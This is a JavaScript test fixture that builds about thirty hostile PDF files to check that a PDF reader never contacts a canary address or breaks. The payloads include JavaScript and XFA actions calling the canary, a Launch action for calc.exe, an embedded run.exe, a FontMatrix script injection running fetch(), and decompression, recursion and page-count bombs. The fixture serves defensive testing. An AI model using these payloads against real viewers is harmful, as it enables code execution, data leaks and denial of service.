// Decks that a candidate should never send, written by hand: `[name, bytes]`. Each has a page
// where its kind allows one, so that what it hides may be tried on the reader.
import zlib from 'node:zlib';

const stream = (words, more = '') =>
  `<< ${more} /Length ${words.length} >> stream\n${words}\nendstream`;
/** A picture is in latin1 within the file, as every byte here. */
const packed = (bytes, more) =>
  stream(zlib.deflateSync(bytes).toString('latin1'), `/Filter /FlateDecode ${more}`);
const BOX = '/MediaBox [0 0 960 540]';
const DRAW = 'BT /F1 40 Tf 60 300 Td (Sillage) Tj ET';
const FONT = '/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>';

/** Objects 1 catalog, 2 pages, 3 page, 4 content; `extra` from 5 on. */
function pdf({
  catalog = '',
  pages = '/Kids [3 0 R] /Count 1',
  page = '',
  box = BOX,
  resources = FONT,
  content = stream(DRAW),
  extra = [],
  trailer = '',
  hurt = (text) => text,
}) {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages ${pages} >>`,
    `<< /Type /Page /Parent 2 0 R ${box} /Resources << ${resources} >> /Contents 4 0 R ${page} >>`,
    content,
    ...extra,
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const from = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const place of places) text += `${String(place).padStart(10, '0')} 00000 n \n`;
  text += `trailer << /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${from}\n%%EOF\n`;
  return Buffer.from(hurt(text), 'latin1');
}

/** Forms that each draw the one before ten times: a page of 10^12 words in a few lines. */
function thousandfold() {
  const resources = (at) => `/Resources << /XObject << /X ${at} 0 R >> >>`;
  const form = (words, more) =>
    stream(words, `/Type /XObject /Subtype /Form /BBox [0 0 960 540] ${more}`);
  const last = form('0 0 5 5 re f', '');
  const each = Array.from({ length: 12 }, (_, at) => form('/X Do '.repeat(10), resources(5 + at)));
  return pdf({
    resources: '/XObject << /X 17 0 R >>',
    content: stream('/X Do'),
    extra: [last, ...each],
  });
}

/** `canary`: an address that must never be asked for. */
export function hostilePdfs(canary) {
  const js = `<< /S /JavaScript /JS (app.launchURL("${canary}"); app.alert("seen"); this.submitForm("${canary}")) >>`;
  const uri = `<< /S /URI /URI (${canary}) >>`;
  const whole = '/Rect [0 0 960 540]';
  const link = (action) => `/Annots [<< /Type /Annot /Subtype /Link ${whole} /A ${action} >>]`;
  const file = `<< /Type /Filespec /F (run.exe) /UF (run.exe) /EF << /F 5 0 R >> >>`;
  const picture = '/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 1';
  return [
    ['js-at-opening', pdf({ catalog: `/OpenAction ${js}` })],
    ['page-of-10-to-the-12', thousandfold()],
    ['uri-at-opening', pdf({ catalog: `/OpenAction ${uri}` })],
    [
      'launch',
      pdf({ catalog: '/OpenAction << /S /Launch /F (/usr/bin/xeyes) /Win << /F (calc.exe) >> >>' }),
    ],
    ['link-over-page', pdf({ page: link(uri) })],
    ['huge-page', pdf({ box: '/MediaBox [0 0 999999999 999999999] /UserUnit 75000' })],
    ['thread-of-a-page', pdf({ box: '/MediaBox [0 0 1 14400]' })],
    [
      'broken-xref',
      pdf({ hurt: (text) => text.replaceAll(/^\d{10} 00000 n/gm, '9999999999 00000 n') }),
    ],
    ['count-of-a-billion', pdf({ pages: '/Kids [3 0 R] /Count 1000000000' })],
    ['100000-pages', pdf({ pages: `/Kids [${'3 0 R '.repeat(100_000)}] /Count 100000` })],
    [
      'embedded',
      pdf({
        catalog: `/Names << /EmbeddedFiles << /Names [(run.exe) ${file}] >> >>`,
        extra: [stream('MZ')],
      }),
    ],
    ['js-by-name', pdf({ catalog: `/Names << /JavaScript << /Names [(go) ${js}] >> >>` })],
    ['js-on-page', pdf({ page: `/AA << /O ${js} /C ${js} >>` })],
    [
      'button',
      pdf({
        page: `/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) ${whole} /A ${js} /AA << /E ${js} >> >>]`,
      }),
    ],
    [
      'submit',
      pdf({ catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${canary}) >> >>` }),
    ],
    [
      'other-file',
      pdf({ catalog: `/OpenAction << /S /GoToR /F (//127.0.0.1/share/x.pdf) /D [0 /Fit] >>` }),
    ],
    [
      'javascript-link',
      pdf({ page: link(`<< /S /URI /URI (javascript:fetch\\('${canary}'\\)) >>`) }),
    ],
    [
      'xfa',
      pdf({
        catalog: '/AcroForm << /XFA 5 0 R >> /NeedsRendering true',
        extra: [
          stream(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><field><event activity="initialize"><script>app.launchURL("${canary}")</script></event></field></subform></template></xdp:xdp>`,
          ),
        ],
      }),
    ],
    [
      'film',
      pdf({
        page: `/Annots [<< /Type /Annot /Subtype /Screen ${whole} /A << /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /CT (video/mp4) /D << /FS /URL /F (${canary}) >> >> >> >> >>]`,
      }),
    ],
    [
      'content-elsewhere',
      pdf({ content: `<< /F << /FS /URL /F (${canary}) >> /Length 0 >> stream\n\nendstream` }),
    ],
    [
      'font-matrix',
      pdf({
        resources: `/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Odd /FontMatrix [1 2 3 4 5 (0\\); fetch\\('${canary}'\\); globalThis.ran = 1)] /FirstChar 65 /LastChar 65 /Widths [500] >> >>`,
      }),
    ],
    ['no-page', pdf({ pages: '/Kids [] /Count 0' })],
    ['box-of-nothing', pdf({ box: '/MediaBox [0 0 0 0]' })],
    ['pages-in-a-ring', pdf({ pages: '/Kids [2 0 R] /Count 5' })],
    [
      'drawn-in-itself',
      pdf({
        resources: '/XObject << /X 5 0 R >>',
        content: stream('/X Do'),
        extra: [
          stream(
            '/X Do',
            '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 5 0 R >> >>',
          ),
        ],
      }),
    ],
    [
      'picture-bomb',
      pdf({
        resources: '/XObject << /X 5 0 R >>',
        content: stream('960 0 0 540 0 0 cm /X Do'),
        extra: [packed(Buffer.alloc(1000), `${picture} /Width 50000 /Height 50000`)],
      }),
    ],
    ['200-megabytes-of-words', pdf({ content: packed(Buffer.alloc(200_000_000, 'q Q '), '') })],
    ['half', pdf({ hurt: (text) => text.slice(0, text.length / 4) })],
    ['head-only', pdf({ hurt: () => '%PDF-1.7\n' })],
    [
      'encrypted',
      pdf({
        trailer: `/ID [<${'00'.repeat(16)}> <${'00'.repeat(16)}>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
      }),
    ],
    ['nested-100000-deep', pdf({ content: stream(`${'['.repeat(100_000)} 0 d`) })],
  ];
}
